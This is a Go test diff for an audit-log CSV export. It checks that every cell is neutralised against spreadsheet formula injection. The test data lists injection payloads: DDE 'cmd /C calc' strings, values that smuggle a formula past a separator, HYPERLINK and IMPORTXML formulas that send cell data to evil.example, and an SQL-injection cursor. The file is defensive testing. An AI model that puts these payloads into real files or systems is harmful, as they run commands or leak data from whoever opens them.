@@ -3,11 +3,14 @@ package server_test
 import (
 	"context"
 	"encoding/csv"
+	"fmt"
 	"net/http"
 	"net/url"
 	"strings"
 	"testing"
 	"time"
+	"unicode"
+	"unicode/utf8"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
@@ -333,4 +336,104 @@ func TestAuditExportRejectsABadCursor(t *testing.T) {
 	res := s.as("ADAM").get("/audit?format=csv&before=" + url.QueryEscape("' OR 1=1 --"))
 	assert.Equal(t, http.StatusUnprocessableEntity, res.Status)
 	assert.Contains(t, res.Body, "cursor is malformed")
+}
+
+// spreadsheetCells splits a CSV body into cells as a spreadsheet does when
+// its locale's field separator is sep: a quote opens or closes quoting ("",
+// inside quotes, is one quote), and sep or a line break outside quotes ends
+// the cell.
+func spreadsheetCells(body string, sep rune) []string {
+	var cells []string
+	var cell strings.Builder
+	quoted := false
+	rs := []rune(body)
+	for i := 0; i < len(rs); i++ {
+		switch r := rs[i]; {
+		case r == '"' && quoted && i+1 < len(rs) && rs[i+1] == '"':
+			cell.WriteRune('"')
+			i++
+		case r == '"':
+			quoted = !quoted
+		case !quoted && (r == sep || r == '\n' || r == '\r'):
+			cells = append(cells, cell.String())
+			cell.Reset()
+		default:
+			cell.WriteRune(r)
+		}
+	}
+	return append(cells, cell.String())
+}
+
+// TestAuditCSVNeutralisesEveryCell: whatever a reason, comment, user name
+// or error holds, no cell of the export starts a formula in a spreadsheet
+// whose separator is a comma, a semicolon, a tab or a bar, and ordinary
+// text reads as it was written.
+func TestAuditCSVNeutralisesEveryCell(t *testing.T) {
+	t.Parallel()
+	hostile := []string{
+		`ok;=cmd|' /C calc'!A0`,
+		`ok,=cmd|' /C calc'!A0`,
+		"ok\t=cmd|' /C calc'!A0",
+		"ok|=1+1",
+		"ok\r=1+1",
+		"ok\n=1+1",
+		"ok\r\n@SUM(1+1)*cmd|' /C calc'!A0",
+		`=cmd|' /C calc'!A0`,
+		`+cmd|' /C calc'!A0`,
+		`-2+3+cmd|' /C calc'!A0`,
+		`@SUM(1+1)*cmd|' /C calc'!A0`,
+		"\t=1+1",
+		"\r=1+1",
+		" =1+1",
+		"\u3000=1+1",
+		`=HYPERLINK("https://evil.example/?"&A1,"Click")`,
+		`=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")`,
+		`ok";=1+1;"`,
+		`ok"",=1+1`,
+		"＝1+1",
+		`=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
+	}
+	ordinary := signoff.Event{ID: "01JDQ3Z8W6T1V4K9M2N5P7R0E1", Time: time.Date(2026, 3, 4, 5, 6, 7, 890000000, time.UTC),
+		RequestID: fakeRequestID, ProductID: fakeProduct.ID, Actor: "JANE.DOE@ACME.COM", ActorRole: "LINE_MANAGER",
+		Type: signoff.EventStepApproved, Step: 2, Decision: signoff.DecisionApprove,
+		Comment: "O'Brien's team, 3 analysts; see ticket #42, \"phase 2\"", Details: "GRANT ROLE \"CUSTOMER_360_READ\" TO USER \"alice\""}
+	evs := []signoff.Event{ordinary}
+	for i, h := range hostile {
+		e := ordinary
+		e.ID = fmt.Sprintf("01JDQ3Z8W6T1V4K9M2N5P7R%03d", i)
+		e.Actor, e.ActorRole, e.ProductID, e.Comment, e.Details = h, h, h, h, h
+		evs = append(evs, e)
+	}
+	s := newFake(t)
+	s.wf.onAuditExport = func(signoff.Identity, signoff.EventFilter, int) ([]signoff.Event, error) { return evs, nil }
+	res := s.as("AUDREY").get("/audit?format=csv")
+	require.Equal(t, http.StatusOK, res.Status)
+
+	for _, sep := range []rune{',', ';', '\t', '|'} {
+		for _, cell := range spreadsheetCells(res.Body, sep) {
+			first, _ := utf8.DecodeRuneInString(strings.TrimLeftFunc(cell, unicode.IsSpace))
+			assert.NotContains(t, "=+-@＝＋－＠", string(first), "separator %q: the cell %q starts a formula", sep, cell)
+			if cell != "" {
+				first, _ = utf8.DecodeRuneInString(cell)
+				assert.False(t, unicode.IsSpace(first) || unicode.IsControl(first), "separator %q: the cell %q starts blank", sep, cell)
+			}
+		}
+	}
+
+	records, err := csv.NewReader(strings.NewReader(res.Body)).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, records, len(evs)+1)
+	assert.Equal(t, []string{"01JDQ3Z8W6T1V4K9M2N5P7R0E1", "2026-03-04T05:06:07.89Z", fakeRequestID, fakeProduct.ID,
+		"JANE.DOE@ACME.COM", "LINE_MANAGER", "STEP_APPROVED", "2", "APPROVED", ordinary.Comment, ordinary.Details}, records[1],
+		"ordinary text, names and times read as they were written")
+	for i, h := range hostile {
+		want := "'" + h // marked as text
+		if strings.HasPrefix(h, "ok") {
+			want = h // the quotes keep what follows a separator in this cell
+		}
+		want = strings.ReplaceAll(want, "\r\n", "\n") // as encoding/csv reads a quoted line break
+		for _, col := range []int{3, 4, 5, 9, 10} {
+			assert.Equal(t, want, records[i+2][col], "the text is kept whole")
+		}
+	}
 }
